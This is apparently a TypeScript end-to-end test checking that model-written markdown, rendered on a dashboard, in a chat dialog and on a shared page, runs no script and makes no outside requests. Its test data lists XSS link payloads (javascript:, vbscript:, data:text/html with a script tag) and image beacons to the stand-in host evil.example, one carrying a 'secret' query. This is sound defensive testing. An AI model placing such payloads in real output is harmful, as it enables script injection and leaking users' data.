import { saveOutput } from './cofounder-support.ts'
import { hostileTexts } from './hostile-texts.ts'
import { expect, test } from './journey.ts'

const markdown = [
  '# What the model wrote',
  ...hostileTexts,
  '[run](javascript:ran=1)',
  '[run](JaVaScRiPt:ran=1)',
  '[run](data:text/html,<script>parent.ran=1</script>)',
  '[run](vbscript:ran=1)',
  '![beacon](https://evil.example/beacon.png?what=secret)',
  '![beacon](//evil.example/beacon.png)',
  '![beacon][later]',
  '[later]: https://evil.example/later.png',
  '<img src="https://evil.example/html.png">',
  '<https://evil.example/plain>',
].join('\n\n')

test('CK14 a text of a model runs no script and loads nothing on any screen that shows it', async ({
  createMember,
  signInAs,
}) => {
  const member = await createMember()
  await saveOutput(member, { type: 'customer_analysis', content: markdown })
  await saveOutput(member, {
    type: 'apple-ai-chat',
    content: markdown,
    input: {
      messages: [
        { role: 'user', content: markdown.slice(0, 3900), timestamp: '2026-01-01T00:00:00Z' },
        { role: 'assistant', content: markdown, timestamp: '2026-01-01T00:00:00Z' },
      ],
    },
  })
  const { data } = await member.client.rpc('create_share_link')
  const page = await signInAs(member)
  const asked: string[] = []
  page.on('request', request => asked.push(request.url()))
  page.on('dialog', () => expect('a dialog').toBe('no dialog'))

  async function expectUnharmed() {
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
    const links = await page
      .locator('a[href]')
      .evaluateAll(all => all.map(link => (link as HTMLAnchorElement).protocol))
    expect(links.filter(protocol => !/^(?:https?|mailto):$/.test(protocol))).toEqual([])
    expect(
      await page.locator('img[src*="evil.example"], main script, main iframe, main object').count(),
    ).toBe(0)
    const origin = new URL(page.url()).origin
    expect(asked.filter(url => !url.startsWith(origin) && !/^(?:data|blob):/.test(url))).toEqual([])
  }

  await page.goto('/dashboard')
  await page.getByRole('button', { name: /^Customer Analysis/ }).click()
  await expectUnharmed()
  await page.getByRole('button', { name: /^Open Customer Analysis/ }).click()
  await expect(page.getByRole('heading', { name: 'What the model wrote' })).toBeVisible()
  await expectUnharmed()

  await page.goto('/dashboard')
  await page.getByRole('button', { name: /^Mentor Chat/ }).click()
  await page.getByRole('button', { name: /^Open Mentor Chat/ }).click()
  const chat = page.getByRole('dialog', { name: 'Chat with your co-founder' })
  await expect(chat.getByRole('heading', { name: 'What the model wrote' }).first()).toBeVisible()
  await expectUnharmed()

  await page.goto(`/plan/${data?.[0]?.token}`)
  await expect(page.getByRole('heading', { name: 'What the model wrote' })).toBeVisible()
  await expectUnharmed()
})
